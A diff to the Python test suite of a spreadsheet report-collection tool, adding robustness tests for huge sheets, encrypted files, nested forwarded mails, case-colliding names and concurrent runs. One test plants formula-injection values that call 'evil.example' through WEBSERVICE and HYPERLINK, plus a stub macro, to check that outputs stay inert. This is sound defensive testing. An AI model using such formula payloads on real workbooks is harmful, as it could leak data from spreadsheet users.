@@ -82,7 +82,9 @@ def test_a_huge_sheet_is_refused_within_its_limit(
     assert time.monotonic() - started < 30
     assert result.consolidation is not None
     limited = [f for f in result.consolidation.findings if f["file"] == "огромный.xlsx"]
-    assert [f["code"] for f in limited] == ["SUB09"] and "дольше 0.5 с" in limited[0]["message"]
+    # xlsxwriter declares the sheet's size: refused before reading, naming the sheet
+    assert [f["code"] for f in limited] == ["SUB09"] and "120 000 строк" in limited[0]["message"]
+    assert limited[0]["sheet"] == F.ROADMAP.name
     assert any(s.code == "SOLN" and s.submission for s in result.consolidation.statuses)
 
 
@@ -343,3 +345,316 @@ def test_formula_like_text_stays_text_everywhere(
     rows = openpyxl.load_workbook(result.outputs["regional"])["Дорожные карты"]
     cells = [c for row in rows.iter_rows(min_row=2) for c in row if c.value == text]
     assert len(cells) >= 4 and all(c.data_type == "s" for c in cells)
+
+
+# -- the rest of the hostile corpus ------------------------------------------------
+
+_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+_REL = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+_PKG = "http://schemas.openxmlformats.org/package/2006"
+_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+
+
+def _million_rows(path: Path, rows: int, dimension: bool) -> Path:
+    """A one-sheet workbook «Дорожные карты» of ``rows`` rows, streamed (a few MB zipped)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(
+            "[Content_Types].xml",
+            f'<?xml version="1.0"?><Types xmlns="{_PKG}/content-types">'
+            f'<Default Extension="rels" ContentType="{_PKG[:-5]}/relationships+xml"/>'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            f'<Override PartName="/xl/workbook.xml" ContentType="{_MAIN}.sheet.main+xml"/>'
+            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_MAIN}.worksheet+xml"/>'
+            "</Types>",
+        )
+        z.writestr(
+            "_rels/.rels",
+            f'<?xml version="1.0"?><Relationships xmlns="{_PKG}/relationships">'
+            f'<Relationship Id="rId1" Type="{_DOC}/officeDocument" Target="xl/workbook.xml"/>'
+            "</Relationships>",
+        )
+        z.writestr(
+            "xl/workbook.xml",
+            f'<?xml version="1.0"?><workbook {_NS} {_REL}><sheets><sheet name="{F.ROADMAP.name}"'
+            ' sheetId="1" r:id="rId1"/></sheets></workbook>',
+        )
+        z.writestr(
+            "xl/_rels/workbook.xml.rels",
+            f'<?xml version="1.0"?><Relationships xmlns="{_PKG}/relationships">'
+            f'<Relationship Id="rId1" Type="{_DOC}/worksheet" Target="worksheets/sheet1.xml"/>'
+            "</Relationships>",
+        )
+        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
+            fh.write(f'<?xml version="1.0"?><worksheet {_NS}>'.encode())
+            if dimension:  # as Excel, LibreOffice, openpyxl and xlsxwriter write it
+                fh.write(f'<dimension ref="A1:L{rows}"/>'.encode())
+            head = "".join(
+                f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{label}</t></is></c>'
+                for i, label in enumerate(F.ROADMAP.labels)
+            )
+            fh.write(f'<sheetData><row r="1">{head}</row>'.encode())
+            for start in range(2, rows + 1, 10_000):
+                fh.write(
+                    "".join(
+                        f'<row r="{r}"><c r="C{r}" t="inlineStr"><is><t>Мероприятие {r}</t>'
+                        "</is></c></row>"
+                        for r in range(start, min(start + 10_000, rows + 1))
+                    ).encode()
+                )
+            fh.write(b"</sheetData></worksheet>")
+    return path
+
+
+def test_a_sheet_of_a_million_rows(
+    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
+) -> None:
+    from shkmd_xl.pipeline import check
+
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    declared = _million_rows(inbox / "миллион.xlsx", 1_000_000, dimension=True)
+    silent = _million_rows(inbox / "миллион без размера.xlsx", 1_000_000, dimension=False)
+    (inbox / "обычный.xlsx").write_bytes(templates["SOLN"].read_bytes())
+    for path in (declared, silent):  # in process: the full scan names the sheet
+        started = time.monotonic()
+        (issue,) = check(path, campaign, "2026-06")
+        assert time.monotonic() - started < 5
+        assert issue.code == "SUB09" and issue.location.sheet == F.ROADMAP.name
+        assert "1 000 000 строк" in issue.message
+    started = time.monotonic()
+    result = collect(
+        inbox, "2026-06", campaign, tmp_path / "out", workers=2, limits=Limits(seconds=3)
+    )
+    assert time.monotonic() - started < 60
+    assert result.consolidation is not None
+    found = {
+        f["file"]: f
+        for f in result.consolidation.findings
+        if f["file"] in ("миллион.xlsx", "миллион без размера.xlsx")
+    }
+    assert len(found) == 2
+    assert {f["code"] for f in found.values()} == {"SUB09"}
+    # the declared size refuses at once with the named sheet; a sheet that hides its
+    # size meets the worker's time or memory limit
+    assert "1 000 000 строк" in found["миллион.xlsx"]["message"]
+    assert found["миллион.xlsx"]["sheet"] == F.ROADMAP.name
+    assert "дольше 3 с" in found["миллион без размера.xlsx"]["message"] or (
+        "памяти" in found["миллион без размера.xlsx"]["message"]
+    )
+    assert any(s.code == "SOLN" and s.submission for s in result.consolidation.statuses)
+
+
+@pytest.mark.libreoffice
+def test_encrypted_legacy_xls_and_ods(
+    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
+) -> None:
+    """LibreOffice's «Save with password» writes a really encrypted .xls (RC4) and .ods."""
+    from shkmd_xl.pipeline import check
+
+    from .lo import available, run_jobs
+
+    if not available():
+        pytest.skip("LibreOffice is not installed")
+    xls, ods, plain = tmp_path / "пароль.xls", tmp_path / "пароль.ods", tmp_path / "открытый.xls"
+    run_jobs(
+        [
+            {
+                "open": str(templates["SOLN"]),
+                "save": [
+                    [str(xls), "xls", "секрет"],
+                    [str(ods), "ods", "секрет"],
+                    [str(plain), "xls"],
+                ],
+            }
+        ]
+    )
+    assert xls.read_bytes()[:8] == bytes.fromhex("D0CF11E0A1B11AE1")
+    for path in (xls, ods):
+        report = check(path, campaign)
+        assert [i.code for i in report] == ["SUB08"] and report.unreadable, path
+    assert "SUB08" not in {i.code for i in check(plain, campaign)}
+
+
+def test_msg_with_nested_messages(
+    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
+) -> None:
+    """A report forwarded as an attached message, itself holding a forwarded message."""
+    import datetime as dt
+
+    from shkmd_xl.intake import Candidate, Refused, scan
+    from shkmd_xl.intake.msg_writer import Mail, message
+
+    when = dt.datetime(2026, 6, 20, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=3)))
+    soln, d01 = templates["SOLN"].read_bytes(), templates["D01"].read_bytes()
+    deepest = Mail("Отчёт D01", "d01@example.ru", "Петров", when, "тело", [("D01.xlsx", d01)])
+    forwarded = Mail(
+        "Fwd: отчёт",
+        "soln@example.ru",
+        "Иванова",
+        when,
+        "пересылаю",
+        [("Солнечногорск.xlsx", soln), ("Письмо Петрова", deepest)],
+    )
+    raw = message(
+        "Отчёты", "boss@example.ru", "Начальник", when, "два отчёта", [("Fwd", forwarded)]
+    )
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    (inbox / "Пересылка.msg").write_bytes(raw)
+    items = list(scan(inbox))
+    assert not [i for i in items if isinstance(i, Refused)]
+    got = {i.chain: i.data for i in items if isinstance(i, Candidate)}
+    assert got == {
+        "Пересылка.msg › Fwd › Солнечногорск.xlsx": soln,
+        "Пересылка.msg › Fwd › Письмо Петрова › D01.xlsx": d01,
+    }
+    # deeper than the nesting limit: refused with a reason, nothing else lost
+    mail = deepest
+    for level in range(6):
+        mail = Mail(f"Fwd {level}", "x@example.ru", "X", when, "", [(f"fwd{level}", mail)])
+    (inbox / "Пересылка.msg").unlink()
+    (inbox / "Глубоко.msg").write_bytes(
+        message("Глубоко", "x@example.ru", "X", when, "", [("m", mail)])
+    )
+    (item,) = list(scan(inbox))
+    assert isinstance(item, Refused) and "вложенность" in item.reason
+
+
+def test_names_colliding_only_by_case(
+    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
+) -> None:
+    """Nothing is extracted by its received name: both files are kept and examined."""
+    from email.message import EmailMessage
+
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    soln, d01 = templates["SOLN"].read_bytes(), templates["D01"].read_bytes()
+    with zipfile.ZipFile(inbox / "архив.zip", "w") as z:
+        z.writestr("Отчёт.xlsx", soln)
+        z.writestr("ОТЧЁТ.xlsx", d01)
+    msg = EmailMessage()
+    msg["From"] = "a@example.ru"
+    msg["Subject"] = "Два файла"
+    msg.set_content("два")
+    msg.add_attachment(soln, maintype="application", subtype="octet-stream", filename="report.XLSX")
+    msg.add_attachment(d01, maintype="application", subtype="octet-stream", filename="REPORT.xlsx")
+    (inbox / "письмо.eml").write_bytes(bytes(msg))
+    out = tmp_path / "out"
+    result = collect(inbox, "2026-06", campaign, out, workers=1, feedback=False)
+    assert result.consolidation is not None
+    db = sqlite3.connect(work_paths(out)["store"])
+    names = sorted(r[0] for r in db.execute("SELECT original_name FROM receipts"))
+    db.close()
+    assert names == sorted(["REPORT.xlsx", "report.XLSX", "Отчёт.xlsx", "ОТЧЁТ.xlsx"])
+    archived = [p for p in work_paths(out)["archive"].rglob("*") if p.is_file()]
+    assert len(archived) == 2 and all(verify(p) for p in archived)
+    submitted = {s.code for s in result.consolidation.statuses if s.submission}
+    assert submitted == {"SOLN", "D01"}
+
+
+def test_two_collect_processes_on_one_folder(small_inbox: Path, tmp_path: Path) -> None:
+    """Started together, the second waits for the first; both finish with the same result."""
+    reference = tmp_path / "reference"
+    subprocess.run([sys.executable, "-c", COLLECT, str(small_inbox), str(reference)], check=True)
+    out = tmp_path / "shared"
+    procs = [
+        subprocess.Popen(
+            [sys.executable, "-c", COLLECT + "; print('done')", str(small_inbox), str(out)],
+            stdout=subprocess.PIPE,
+            text=True,
+        )
+        for _ in range(2)
+    ]
+    for proc in procs:
+        stdout, _ = proc.communicate(timeout=300)
+        assert proc.returncode == 0 and "done" in stdout
+    assert _content(out / "Свод_2026-04.xlsx") == _content(reference / "Свод_2026-04.xlsx")
+    db = sqlite3.connect(work_paths(out)["store"])
+    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+    # one submission per received file: the second run found everything already done
+    assert (
+        db.execute("SELECT COUNT(*) FROM submissions").fetchone()[0]
+        == sqlite3.connect(work_paths(reference)["store"])
+        .execute("SELECT COUNT(*) FROM submissions")
+        .fetchone()[0]
+    )
+    db.close()
+
+
+def test_a_run_that_waits_too_long_says_so(small_inbox: Path, tmp_path: Path) -> None:
+    from shkmd_xl.store import run_lock
+
+    from .clirun import run_cli
+
+    out = tmp_path / "busy"
+    with run_lock(out):  # another run holds the folder
+        started = time.monotonic()
+        done = run_cli("collect", str(small_inbox), "-p", "2026-04", "-o", str(out), "--wait", "1")
+        assert time.monotonic() - started < 60
+    assert done.returncode == 2
+    assert "занята другим запуском сбора дольше 1 с" in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+def _computing_parts(path: Path) -> list[str]:
+    """Formulas in data cells, macros and links to other files in an output workbook."""
+    import re
+
+    found = []
+    with zipfile.ZipFile(path) as z:
+        names = z.namelist()
+        found += [n for n in names if "vbaproject" in n.lower() or "externallink" in n.lower()]
+        book = z.read("xl/workbook.xml").decode()
+        rels = z.read("xl/_rels/workbook.xml.rels").decode()
+        targets = dict(re.findall(r'Id="(\w+)"[^>]*Target="([^"]+)"', rels))
+        targets |= {k: v for v, k in re.findall(r'Target="([^"]+)"[^>]*Id="(\w+)"', rels)}
+        for sheet, rid in re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="(\w+)"', book):
+            if sheet == F.CONTROL:  # the template's own self-check formulas
+                continue
+            part = targets[rid].lstrip("/")
+            xml = z.read(part if part.startswith("xl/") else "xl/" + part)
+            if re.search(rb"<f[ >]", xml):
+                found.append(f"{path.name}: {sheet}")
+    return found
+
+
+def test_no_output_computes_anything(
+    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
+) -> None:
+    """Real formulas typed into data cells, formula-like text and macros in the input;
+    every workbook the run writes is scanned: no formula in a data cell, no macro, no link."""
+    from .fills import fill_with_openpyxl, good_fill
+
+    fill = good_fill(campaign, "SOLN", "2026-06")
+    fill.put(F.ROADMAP, 0, "event", '=WEBSERVICE("http://evil.example/x")', "formula")
+    fill.put(F.ROADMAP, 1, "responsible", "=1+1", "formula")
+    fill.put(F.ROADMAP, 2, "expected", '=HYPERLINK("http://evil.example/","ok")', "string")
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    fill_with_openpyxl(templates["SOLN"], fill, inbox / "формулы.xlsx")
+    with (
+        zipfile.ZipFile(templates["D01"]) as src,
+        zipfile.ZipFile(inbox / "макросы.xlsm", "w") as dst,
+    ):
+        for item in src.infolist():
+            dst.writestr(item, src.read(item))
+        dst.writestr("xl/vbaProject.bin", b"Attribute VB_Name = Evil")
+    result = collect(inbox, "2026-06", campaign, tmp_path / "out", workers=1)
+    assert result.consolidation is not None
+    written = [
+        p
+        for p in (tmp_path / "out").rglob("*")
+        if p.suffix in (".xlsx", ".xlsm")
+        and work_paths(tmp_path / "out")["archive"] not in p.parents
+    ]
+    kinds = {p.parent.name for p in written}
+    assert result.outputs["regional"] in written and len(result.feedback) == 2
+    assert "Шаблоны" in kinds  # reminder templates of the missing municipalities are scanned too
+    assert [bad for p in written for bad in _computing_parts(p)] == []
+    copy = openpyxl.load_workbook(
+        next(p for p in result.feedback if "SOLN" in p.name), read_only=False
+    )
+    row = F.ROADMAP.first_data_row + 3  # 1-based row of data row 2
+    expected = copy[F.ROADMAP.name].cell(row, F.ROADMAP.col("expected") + 1)
+    assert expected.value.startswith("=HYPERLINK(") and expected.data_type == "s"
